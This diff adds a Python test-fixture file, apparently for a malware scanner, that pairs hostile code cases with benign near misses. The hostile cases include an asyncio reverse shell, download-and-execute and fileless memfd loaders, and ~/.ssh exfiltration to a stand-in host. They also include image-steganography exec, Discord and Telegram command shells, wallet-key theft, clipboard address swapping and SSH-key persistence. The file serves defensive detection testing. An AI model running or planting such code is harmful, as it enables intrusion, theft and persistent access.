@@ -1,0 +1,140 @@
+"""What hands data on: streams, archives, pictures, handlers of chats, keys of wallets; each with a near miss."""
+
+# ruff: noqa: E501 - a case reads as the file that it is
+
+from tests.evasion.case import HIGH, MEDIUM, Case
+
+HANDING = (
+    Case("a shell over streams of asyncio", HIGH, """
+        import asyncio
+        async def main():
+            reader, writer = await asyncio.open_connection("example.invalid", 9)
+            while not reader.at_eof():
+                line = (await reader.readline()).decode()
+                started = await asyncio.create_subprocess_shell(line, stdout=asyncio.subprocess.PIPE)
+                out, _ = await started.communicate()
+                writer.write(out)
+        asyncio.run(main())
+    """, family="SHELL"),
+    Case("copied from the answer into a file that is started", HIGH, """
+        import os, shutil, subprocess, urllib.request
+        base = os.path.join(os.environ.get("PROGRAMDATA", "C:\\\\ProgramData"), "Host")
+        for name in ("host.exe", "version.dll"):
+            with urllib.request.urlopen("https://example.invalid/" + name) as answer, open(os.path.join(base, name), "wb") as out:
+                shutil.copyfileobj(answer, out)
+        subprocess.Popen(os.path.join(base, "host.exe"), cwd=base)
+    """, family="FETCH"),
+    Case("written to a descriptor in memory and started", HIGH, """
+        import ctypes, os, urllib.request
+        data = urllib.request.urlopen("http://example.invalid/a").read()
+        fd = ctypes.CDLL(None).syscall(319, b"worker", 1)
+        os.write(fd, data)
+        os.execve("/proc/self/fd/%d" % fd, ["worker"], {})
+    """, family="FETCH"),
+    Case("an archive unpacked from memory, and what lies in it started", HIGH, """
+        import io, os, subprocess, tempfile, zipfile
+        import requests
+        folder = tempfile.mkdtemp()
+        zipfile.ZipFile(io.BytesIO(requests.get("https://example.invalid/a.zip").content)).extractall(folder)
+        for name in os.listdir(folder):
+            subprocess.Popen([os.path.join(folder, name)])
+    """, family="FETCH"),
+    Case("keys in an archive that is written to a buffer", HIGH, """
+        import io, os, tarfile, urllib.request
+        buffer = io.BytesIO()
+        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+            archive.add(os.path.expanduser("~/.ssh"), arcname="a")
+        urllib.request.urlopen(urllib.request.Request("https://example.invalid/a", data=buffer.getvalue(), method="PUT"))
+    """),
+    Case("code in the lowest bits of a picture", HIGH, """
+        import os
+        from PIL import Image
+        picture = Image.open(os.path.join(os.path.dirname(__file__), "logo.png")).convert("RGB")
+        bits = "".join(str(colour & 1) for pixel in picture.getdata() for colour in pixel)
+        exec(bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8)).split(b"\\0")[0])
+    """, family="ENC"),
+    Case("commands by a handler of a chat's bot", HIGH, """
+        import subprocess
+        from discord.ext import commands
+        bot = commands.Bot(command_prefix="!")
+        @bot.command()
+        async def run(ctx, *, line):
+            await ctx.send(subprocess.run(line, shell=True, capture_output=True).stdout)
+        def start():
+            bot.run("token")
+    """, family="SHELL"),
+    Case("commands by a handler of messages", HIGH, """
+        import os, telebot
+        bot = telebot.TeleBot("token")
+        @bot.message_handler(func=lambda message: True)
+        def answer(message):
+            bot.reply_to(message, os.popen(message.text).read())
+    """, family="SHELL"),
+    Case("what a wallet is made of is sent under another name", HIGH, """
+        import requests
+        from eth_account import Account
+        def connect(given):
+            account = Account.from_key(given)
+            requests.post("https://example.invalid/a", json={"jsonrpc": "2.0", "id": given})
+            return account
+    """, family="EXFIL"),
+    Case("the clipboard is rewritten", HIGH, """
+        import re, time
+        import pyperclip
+        while True:
+            pyperclip.copy(re.sub("0x[0-9a-f]{40}", "mine", pyperclip.paste()))
+            time.sleep(1)
+    """, family="STEAL"),
+    Case("a fixed key is authorized when called", HIGH, """
+        import os
+        def prepare():
+            with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as keys:
+                keys.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIexample a@example.invalid")
+    """, family="PERSIST"),
+)  # fmt: skip
+
+GOOD_HANDING = (
+    Case("lines of a service over streams of asyncio", MEDIUM, """
+        import asyncio
+        async def ask(host, port):
+            reader, writer = await asyncio.open_connection(host, port)
+            writer.write(b"PING")
+            return (await reader.readline()).decode()
+    """),
+    Case("copied from one file into another", MEDIUM, """
+        import shutil
+        def store(source, path):
+            with open(path, "wb") as out:
+                shutil.copyfileobj(source, out)
+    """),
+    Case("an archive of data unpacked from memory", MEDIUM, """
+        import io, zipfile
+        import requests
+        def fetch(folder):
+            zipfile.ZipFile(io.BytesIO(requests.get("https://example.invalid/data.zip").content)).extractall(folder)
+    """),
+    Case("a picture is looked at", MEDIUM, """
+        from PIL import Image
+        def mean(path):
+            return sum(Image.open(path).convert("L").getdata())
+    """),
+    Case("a bot that answers", MEDIUM, """
+        from discord.ext import commands
+        bot = commands.Bot(command_prefix="!")
+        @bot.command()
+        async def echo(ctx, *, text):
+            await ctx.send(text)
+    """),
+    Case("a wallet that signs and sends what it signed", MEDIUM, """
+        import requests
+        from eth_account import Account
+        def send(given, transaction):
+            signed = Account.from_key(given).sign_transaction(transaction)
+            return requests.post("https://example.invalid/rpc", json={"params": [signed.rawTransaction.hex()]})
+    """),
+    Case("text is put into the clipboard when asked", MEDIUM, """
+        import pyperclip
+        def upper():
+            pyperclip.copy(pyperclip.paste().upper())
+    """),
+)  # fmt: skip
